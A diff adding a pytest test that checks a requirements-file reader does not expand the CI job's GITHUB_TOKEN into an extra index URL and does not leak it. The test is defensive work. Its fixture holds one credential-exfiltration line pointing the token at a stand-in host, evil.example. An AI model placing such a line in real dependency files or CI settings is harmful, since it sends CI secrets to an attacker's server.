@@ -272,3 +272,24 @@ def test_allow_outside_includes_flag_reaches_the_reader(checkout: Path) -> None:
             assert "leads outside the checkout" in err.getvalue()
     # refused: input error; allowed: read, then the empty --offline cache says exit 3
     assert codes == [2, 3]
+
+
+def test_the_jobs_own_token_is_never_expanded_into_an_index_url(
+    checkout: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A pull request must not be able to send the CI token to a host it names."""
+    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
+    monkeypatch.setenv("CORP_TOKEN", "corp-value")
+    reqs = checkout / "requirements.txt"
+    reqs.write_text(
+        "--extra-index-url https://x:${GITHUB_TOKEN}@evil.example/simple\n"
+        "--extra-index-url https://me:${CORP_TOKEN}@corp.example/simple\nrequests\n"
+    )
+    result, exc, _ = read(reqs)
+    assert exc is None and result is not None
+    assert result.index.extra_index_urls == (
+        "https://x:${GITHUB_TOKEN}@evil.example/simple",
+        "https://me:corp-value@corp.example/simple",  # the user's own variables still work
+    )
+    assert any("${GITHUB_TOKEN} is left unexpanded" in w for w in result.warnings)
+    assert SECRET not in repr(result)
